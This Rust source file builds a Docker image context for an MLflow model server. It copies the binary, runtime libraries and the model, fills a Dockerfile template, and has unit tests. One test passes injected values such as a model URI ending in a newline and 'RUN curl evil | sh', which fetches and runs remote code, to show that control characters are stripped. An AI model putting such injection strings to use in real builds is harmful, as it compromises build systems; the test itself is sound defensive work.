//! The build context of a model's image: `Dockerfile`, `mlflow-serve/` (this executable and
//! the libraries it loads), `model/` (the resolved model directory) and `cache/` (an empty
//! directory that becomes the writable model cache of the non-root user).

use std::fs;
use std::path::{Path, PathBuf};

use super::{ImageError, Target, DEFAULT_BASE_GLIBC, DEFAULT_BASE_IMAGE};

/// The Dockerfile every generated context starts from (`{…}` are filled in).
const TEMPLATE: &str = include_str!("Dockerfile.template");

/// The same for the `python` target: the model's environment is built at build time.
const PYTHON_TEMPLATE: &str = include_str!("Dockerfile.python.template");

/// What goes into a context.
#[derive(Debug, Clone)]
pub struct Spec<'a> {
    /// The subcommand writing it (`build-docker` or `generate-dockerfile`), for the header.
    pub command: &'static str,
    /// The resolved model directory, or none for an image that serves a mounted `/opt/ml/model`.
    pub model_dir: Option<&'a Path>,
    /// The model URI as given (credentials already removed), for the header.
    pub model_uri: Option<&'a str>,
    /// What the image can serve.
    pub target: Target,
    /// The `FROM` image.
    pub base_image: &'a str,
    /// `--onnxruntime-lib` / `ORT_DYLIB_PATH`, else the search `serve` makes.
    pub onnxruntime_lib: Option<&'a Path>,
    /// `--torch-plugin` / `MLFLOW_SERVE_TORCH_PLUGIN`, else the search `serve` makes.
    pub torch_plugin: Option<&'a Path>,
    /// libtorch's directory (`LIBTORCH`), else next to the plugin or in the project's `.local`.
    pub libtorch: Option<&'a Path>,
    /// The most bytes and files the copied model may hold (`--max-model-bytes`,
    /// `--max-model-files`).
    pub model_limits: crate::resolve::cache::Limits,
}

/// Writes the context into `dir` (created if missing; `Dockerfile`, `mlflow-serve/`,
/// `model/` and `cache/` replaced if present, nothing else touched).
pub fn write(dir: &Path, spec: &Spec) -> Result<(), ImageError> {
    let exe = std::env::current_exe()
        .map_err(|e| io("cannot find", PathBuf::from("the running executable"), e))?;
    if spec.base_image == DEFAULT_BASE_IMAGE
        || (spec.base_image.starts_with("docker.io/library/python:")
            && spec.base_image.ends_with("-slim-bookworm"))
    {
        check_glibc(&exe)?;
    }
    mkdir(dir)?;
    let bin = dir.join("mlflow-serve");
    for sub in [bin.clone(), dir.join("model"), dir.join("cache")] {
        remove(&sub)?;
    }
    mkdir(&bin)?;
    copy_file(&exe, &bin.join("mlflow-serve"))?;
    copy_onnxruntime(spec.onnxruntime_lib, &bin)?;
    if spec.target == Target::Torch {
        copy_torch(spec.torch_plugin, spec.libtorch, &bin)?;
    }
    if let Some(model) = spec.model_dir {
        copy_model(model, &dir.join("model"), spec.model_limits)?;
    }
    mkdir(&dir.join("cache"))?;
    if spec.target == Target::Python {
        write_requirements(dir, spec.model_dir)?;
    }
    let dockerfile = dockerfile(spec);
    fs::write(dir.join("Dockerfile"), dockerfile)
        .map_err(|e| io("cannot write", dir.join("Dockerfile"), e))?;
    Ok(())
}

/// The Dockerfile text for `spec`.
pub fn dockerfile(spec: &Spec) -> String {
    let (what, model_copy) = match spec.model_dir {
        Some(_) => (
            "the model copied into model/ (baked in at /opt/ml/model)",
            "COPY model/ /opt/ml/model/".to_string(),
        ),
        None => (
            "the model directory mounted at /opt/ml/model (docker run -v DIR:/opt/ml/model NAME)",
            "# no model baked in: mount one at /opt/ml/model".to_string(),
        ),
    };
    let template = if spec.target == Target::Python {
        PYTHON_TEMPLATE
    } else {
        TEMPLATE
    };
    template
        .replace("{command}", spec.command)
        .replace("{uv_version}", super::UV_VERSION)
        .replace("{version}", env!("CARGO_PKG_VERSION"))
        .replace("{what}", what)
        .replace(
            "{uri}",
            &printable(spec.model_uri.unwrap_or("nothing (no -m)")),
        )
        .replace("{base_image}", &printable(spec.base_image))
        .replace("{model_copy}", &model_copy)
}

/// `requirements.txt` of the `python` target: the model's own (as its `python_env.yaml`
/// installs it), else MLflow's for an image that serves a mounted model.
fn write_requirements(dir: &Path, model: Option<&Path>) -> Result<(), ImageError> {
    let to = dir.join("requirements.txt");
    match model
        .map(|m| m.join("requirements.txt"))
        .filter(|r| r.is_file())
    {
        Some(from) => copy_file(&from, &to),
        None => fs::write(&to, super::PYTHON_DEFAULT_REQUIREMENTS)
            .map_err(|e| io("cannot write", to.clone(), e)),
    }
}

/// Text pasted into the Dockerfile without its control characters: a newline in a model URI
/// or a base image name would otherwise start a Dockerfile instruction of its own.
fn printable(s: &str) -> String {
    s.chars().filter(|c| !c.is_control()).collect()
}

/// The highest `GLIBC_2.N` version an ELF executable asks for, from its version-needs strings.
pub fn max_glibc(bytes: &[u8]) -> Option<(u32, u32)> {
    const TAG: &[u8] = b"GLIBC_2.";
    let mut best: Option<(u32, u32)> = None;
    let mut i = 0;
    while let Some(pos) = find(&bytes[i..], TAG) {
        let start = i + pos + TAG.len();
        let digits: Vec<u8> = bytes[start..]
            .iter()
            .take_while(|b| b.is_ascii_digit())
            .take(4)
            .copied()
            .collect();
        if let Some(minor) = std::str::from_utf8(&digits)
            .ok()
            .and_then(|s| s.parse::<u32>().ok())
        {
            best = best.max(Some((2, minor)));
        }
        i = start;
    }
    best
}

fn find(hay: &[u8], needle: &[u8]) -> Option<usize> {
    hay.windows(needle.len()).position(|w| w == needle)
}

/// Refuses an executable built against a newer glibc than the default base image has: it
/// would build, then fail at `run` with a loader error.
fn check_glibc(exe: &Path) -> Result<(), ImageError> {
    let bytes = fs::read(exe).map_err(|e| io("cannot read", exe.to_path_buf(), e))?;
    if let Some(needed) = max_glibc(&bytes) {
        if needed > DEFAULT_BASE_GLIBC {
            return Err(ImageError::Unsupported(format!(
                "{} needs glibc {}.{}, and {DEFAULT_BASE_IMAGE} has {}.{}: pass --base-image with a newer \
                 glibc (for example gcr.io/distroless/cc-debian13:nonroot), or build mlflow-serve on Debian 12",
                exe.display(),
                needed.0,
                needed.1,
                DEFAULT_BASE_GLIBC.0,
                DEFAULT_BASE_GLIBC.1
            )));
        }
    }
    Ok(())
}

/// libonnxruntime (the file `serve` would load) as `libonnxruntime.so.<version>` with the
/// `libonnxruntime.so` link the image's search finds first.
fn copy_onnxruntime(explicit: Option<&Path>, bin: &Path) -> Result<(), ImageError> {
    let found = runtime_onnx::find_library(explicit).map_err(|search| {
        ImageError::MissingLibrary(format!(
            "libonnxruntime not found (run `make setup`, or pass --onnxruntime-lib / ORT_DYLIB_PATH); looked in: {}",
            search.tried.iter().map(|p| p.display().to_string()).collect::<Vec<_>>().join(", ")
        ))
    })?;
    let real = fs::canonicalize(&found).map_err(|e| io("cannot read", found.clone(), e))?;
    let name = file_name(&real);
    copy_file(&real, &bin.join(&name))?;
    if name != "libonnxruntime.so" {
        symlink(&name, &bin.join("libonnxruntime.so"))?;
    }
    Ok(())
}

#[cfg(feature = "torch")]
fn copy_torch(
    plugin: Option<&Path>,
    libtorch: Option<&Path>,
    bin: &Path,
) -> Result<(), ImageError> {
    let found = runtime_torch_loader::find_plugin(plugin).map_err(|search| {
        ImageError::MissingLibrary(format!(
            "the TorchScript plugin was not found (run `make setup-torch`, or pass --torch-plugin); looked in: {}",
            search.tried.iter().map(|p| p.display().to_string()).collect::<Vec<_>>().join(", ")
        ))
    })?;
    copy_file(&found, &bin.join(runtime_torch_loader::PLUGIN_FILE))?;
    let plugin_dir = found.parent().map(Path::to_path_buf).unwrap_or_default();
    let mut candidates: Vec<PathBuf> = Vec::new();
    candidates.extend(libtorch.map(Path::to_path_buf));
    candidates.push(plugin_dir.join("libtorch/torch"));
    if let Ok(exe) = std::env::current_exe() {
        candidates.extend(
            exe.ancestors()
                .skip(1)
                .take(4)
                .map(|up| up.join(".local/libtorch/torch")),
        );
    }
    let torch = candidates
        .iter()
        .find(|c| c.join("lib/libtorch_cpu.so").is_file())
        .ok_or_else(|| {
            ImageError::MissingLibrary(format!(
                "libtorch (lib/libtorch_cpu.so) not found: pass --libtorch or set LIBTORCH; looked in: {}",
                candidates.iter().map(|p| p.display().to_string()).collect::<Vec<_>>().join(", ")
            ))
        })?;
    // The plugin's rpath finds $ORIGIN/libtorch/torch/lib; libtorch_cpu's finds the CUDA
    // runtime stubs it links at $ORIGIN/../../nvidia/cu13/lib.
    copy_tree(&torch.join("lib"), &bin.join("libtorch/torch/lib"))?;
    if let Some(root) = torch.parent() {
        if root.join("nvidia").is_dir() {
            copy_tree(&root.join("nvidia"), &bin.join("libtorch/nvidia"))?;
        }
    }
    Ok(())
}

#[cfg(not(feature = "torch"))]
fn copy_torch(
    _plugin: Option<&Path>,
    _libtorch: Option<&Path>,
    _bin: &Path,
) -> Result<(), ImageError> {
    Err(ImageError::Unsupported(
        "this mlflow-serve was built without TorchScript support: the `torch` target needs a build with \
         `--features torch` (`make setup-torch`)"
            .into(),
    ))
}

/// The model directory, links followed only when they stay inside it, each directory at
/// most once on a path (a link back to an ancestor is a cycle: refused), regular files and
/// directories only, within the model limits.
fn copy_model(
    model: &Path,
    dst: &Path,
    limits: crate::resolve::cache::Limits,
) -> Result<(), ImageError> {
    let root = fs::canonicalize(model).map_err(|e| io("cannot read", model.to_path_buf(), e))?;
    let mut walk = ModelWalk {
        root: root.clone(),
        chain: Vec::new(),
        bytes: 0,
        files: 0,
        limits,
    };
    walk.copy_dir(&root, dst)
}

/// What a model copy has walked so far.
struct ModelWalk {
    root: PathBuf,
    /// The canonical directories being copied, outermost first.
    chain: Vec<PathBuf>,
    bytes: u64,
    files: usize,
    limits: crate::resolve::cache::Limits,
}

impl ModelWalk {
    fn copy_dir(&mut self, src: &Path, dst: &Path) -> Result<(), ImageError> {
        let canonical =
            fs::canonicalize(src).map_err(|e| io("cannot read", src.to_path_buf(), e))?;
        if self.chain.contains(&canonical) {
            return Err(ImageError::BadModel(format!(
                "{} links back to a directory that contains it (a cycle): not copied into an image",
                src.display()
            )));
        }
        self.chain.push(canonical);
        mkdir(dst)?;
        let entries = fs::read_dir(src).map_err(|e| io("cannot read", src.to_path_buf(), e))?;
        for entry in entries {
            let entry = entry.map_err(|e| io("cannot read", src.to_path_buf(), e))?;
            let path = entry.path();
            let to = dst.join(entry.file_name());
            let meta =
                fs::symlink_metadata(&path).map_err(|e| io("cannot read", path.clone(), e))?;
            let (target, meta) = if meta.file_type().is_symlink() {
                let target =
                    fs::canonicalize(&path).map_err(|e| io("cannot follow", path.clone(), e))?;
                if !target.starts_with(&self.root) {
                    return Err(ImageError::BadModel(format!(
                        "{} links outside the model directory: not copied into an image",
                        path.display()
                    )));
                }
                let meta =
                    fs::metadata(&target).map_err(|e| io("cannot read", target.clone(), e))?;
                (target, meta)
            } else {
                (path.clone(), meta)
            };
            if meta.is_dir() {
                self.copy_dir(&target, &to)?;
            } else if meta.is_file() {
                self.files += 1;
                self.bytes = self.bytes.saturating_add(meta.len());
                if self.files > self.limits.max_files || self.bytes > self.limits.max_bytes {
                    return Err(ImageError::BadModel(format!(
                        "the model directory holds more than {} files or {} bytes (--max-model-files, --max-model-bytes): not copied into an image",
                        self.limits.max_files, self.limits.max_bytes
                    )));
                }
                copy_file(&target, &to)?;
            } else {
                return Err(ImageError::BadModel(format!(
                    "{} is not a regular file or a directory (a FIFO, socket or device): not copied into an image",
                    path.display()
                )));
            }
        }
        self.chain.pop();
        Ok(())
    }
}

/// Copies a library tree: links stay links (`libfoo.so -> libfoo.so.1`).
#[cfg(feature = "torch")]
fn copy_tree(src: &Path, dst: &Path) -> Result<(), ImageError> {
    mkdir(dst)?;
    let entries = fs::read_dir(src).map_err(|e| io("cannot read", src.to_path_buf(), e))?;
    for entry in entries {
        let entry = entry.map_err(|e| io("cannot read", src.to_path_buf(), e))?;
        let path = entry.path();
        let to = dst.join(entry.file_name());
        let meta = fs::symlink_metadata(&path).map_err(|e| io("cannot read", path.clone(), e))?;
        if meta.file_type().is_symlink() {
            let link = fs::read_link(&path).map_err(|e| io("cannot read", path.clone(), e))?;
            symlink_path(&link, &to)?;
        } else if meta.is_dir() {
            copy_tree(&path, &to)?;
        } else if meta.is_file() {
            copy_file(&path, &to)?;
        }
    }
    Ok(())
}

fn file_name(p: &Path) -> String {
    p.file_name()
        .map(|n| n.to_string_lossy().into_owned())
        .unwrap_or_default()
}

fn copy_file(from: &Path, to: &Path) -> Result<(), ImageError> {
    fs::copy(from, to)
        .map(|_| ())
        .map_err(|e| io("cannot copy", from.to_path_buf(), e))
}

fn mkdir(p: &Path) -> Result<(), ImageError> {
    fs::create_dir_all(p).map_err(|e| io("cannot create", p.to_path_buf(), e))
}

fn remove(p: &Path) -> Result<(), ImageError> {
    match fs::symlink_metadata(p) {
        Ok(m) if m.is_dir() => {
            fs::remove_dir_all(p).map_err(|e| io("cannot remove", p.to_path_buf(), e))
        }
        Ok(_) => fs::remove_file(p).map_err(|e| io("cannot remove", p.to_path_buf(), e)),
        Err(_) => Ok(()),
    }
}

fn symlink(target: &str, link: &Path) -> Result<(), ImageError> {
    symlink_path(Path::new(target), link)
}

#[cfg(unix)]
fn symlink_path(target: &Path, link: &Path) -> Result<(), ImageError> {
    std::os::unix::fs::symlink(target, link).map_err(|e| io("cannot link", link.to_path_buf(), e))
}

#[cfg(not(unix))]
fn symlink_path(target: &Path, link: &Path) -> Result<(), ImageError> {
    let from = link
        .parent()
        .map(|d| d.join(target))
        .unwrap_or_else(|| target.to_path_buf());
    copy_file(&from, link)
}

fn io(what: &'static str, path: PathBuf, source: std::io::Error) -> ImageError {
    ImageError::Io { what, path, source }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn glibc_version_is_the_highest_named() {
        let bytes = b"\0GLIBC_2.2.5\0GLIBC_2.34\0GLIBC_2.17\0GLIBC_PRIVATE\0";
        assert_eq!(max_glibc(bytes), Some((2, 34)));
        assert_eq!(max_glibc(b"no versions here"), None);
        // the running test binary was linked here: it names some glibc version
        let me = fs::read(std::env::current_exe().unwrap()).unwrap();
        assert!(max_glibc(&me).is_some());
    }

    #[test]
    fn dockerfile_without_a_model_expects_a_mount() {
        let spec = Spec {
            command: "generate-dockerfile",
            model_dir: None,
            model_uri: None,
            target: Target::Onnx,
            base_image: DEFAULT_BASE_IMAGE,
            onnxruntime_lib: None,
            torch_plugin: None,
            libtorch: None,
            model_limits: Default::default(),
        };
        let text = dockerfile(&spec);
        assert!(
            text.contains("FROM gcr.io/distroless/cc-debian12:nonroot\n"),
            "{text}"
        );
        assert!(!text.contains("COPY model/"), "{text}");
        assert!(text.contains("CMD [\"serve\"]"), "{text}");
        for placeholder in [
            "{command}",
            "{version}",
            "{what}",
            "{uri}",
            "{base_image}",
            "{model_copy}",
        ] {
            assert!(
                !text.contains(placeholder),
                "{placeholder} left in:\n{text}"
            );
        }
    }

    #[test]
    fn runtime_conventions_match_the_project_dockerfile() {
        // The lines after "# runtime conventions" are the same in the generated Dockerfile and
        // in both runtime stages of the top-level Dockerfile.
        fn conventions(text: &str) -> Vec<Vec<String>> {
            let lines: Vec<&str> = text.lines().collect();
            lines
                .iter()
                .enumerate()
                .filter(|(_, l)| l.starts_with("# runtime conventions"))
                .map(|(i, _)| {
                    lines[i + 1..]
                        .iter()
                        .take_while(|l| !l.trim().is_empty() && !l.starts_with('#'))
                        .map(|l| l.to_string())
                        .collect()
                })
                .collect()
        }
        let project =
            fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/Dockerfile")).unwrap();
        let ours = conventions(TEMPLATE);
        assert_eq!(conventions(PYTHON_TEMPLATE), ours, "the python template");
        let theirs = conventions(&project);
        assert_eq!(ours.len(), 1);
        assert_eq!(theirs.len(), 3, "the three runtime stages");
        for stage in theirs {
            assert_eq!(stage, ours[0]);
        }
        assert!(ours[0].iter().any(|l| l.starts_with("ENTRYPOINT")));
    }

    #[test]
    fn model_links_out_of_the_directory_are_refused() {
        let tmp = tempfile::tempdir().unwrap();
        let model = tmp.path().join("m");
        fs::create_dir_all(model.join("sub")).unwrap();
        fs::write(model.join("MLmodel"), "x").unwrap();
        fs::write(model.join("sub/a.bin"), "a").unwrap();
        std::os::unix::fs::symlink("sub/a.bin", model.join("inner-link")).unwrap();
        copy_model(&model, &tmp.path().join("out"), Default::default()).unwrap();
        assert_eq!(fs::read(tmp.path().join("out/inner-link")).unwrap(), b"a");
        assert_eq!(fs::read(tmp.path().join("out/sub/a.bin")).unwrap(), b"a");

        fs::write(tmp.path().join("secret"), "s").unwrap();
        std::os::unix::fs::symlink(tmp.path().join("secret"), model.join("leak")).unwrap();
        let err = copy_model(&model, &tmp.path().join("out2"), Default::default())
            .unwrap_err()
            .to_string();
        assert!(err.contains("links outside the model directory"), "{err}");
    }

    #[test]
    fn cycles_fifos_and_oversized_models_are_refused() {
        use crate::resolve::cache::Limits;
        let tmp = tempfile::tempdir().unwrap();
        let model = tmp.path().join("m");
        fs::create_dir_all(&model).unwrap();
        fs::write(model.join("MLmodel"), "x").unwrap();
        // `loop -> .`: once copied 806 times over, until the path was too long.
        std::os::unix::fs::symlink(".", model.join("loop")).unwrap();
        let err = copy_model(&model, &tmp.path().join("o1"), Limits::default())
            .unwrap_err()
            .to_string();
        assert!(err.contains("cycle"), "{err}");
        fs::remove_file(model.join("loop")).unwrap();
        let status = std::process::Command::new("mkfifo")
            .arg(model.join("pipe"))
            .status()
            .unwrap();
        assert!(status.success());
        let err = copy_model(&model, &tmp.path().join("o2"), Limits::default())
            .unwrap_err()
            .to_string();
        assert!(err.contains("not a regular file"), "{err}");
        fs::remove_file(model.join("pipe")).unwrap();
        fs::write(model.join("big.bin"), vec![0u8; 1000]).unwrap();
        let small = Limits {
            max_bytes: 500,
            max_files: 10,
            ..Limits::default()
        };
        let err = copy_model(&model, &tmp.path().join("o3"), small)
            .unwrap_err()
            .to_string();
        assert!(err.contains("--max-model-bytes"), "{err}");
    }

    #[test]
    fn control_characters_never_reach_the_dockerfile() {
        let spec = Spec {
            command: "generate-dockerfile",
            model_dir: None,
            model_uri: Some("models:/m/1\nRUN curl evil | sh"),
            target: Target::Onnx,
            base_image: "debian:12\nRUN id",
            onnxruntime_lib: None,
            torch_plugin: None,
            libtorch: None,
            model_limits: Default::default(),
        };
        let text = dockerfile(&spec);
        assert!(
            !text
                .lines()
                .any(|l| l.starts_with("RUN curl") || l.starts_with("RUN id")),
            "{text}"
        );
        assert!(text.contains("models:/m/1RUN curl evil | sh"), "{text}");
    }
}
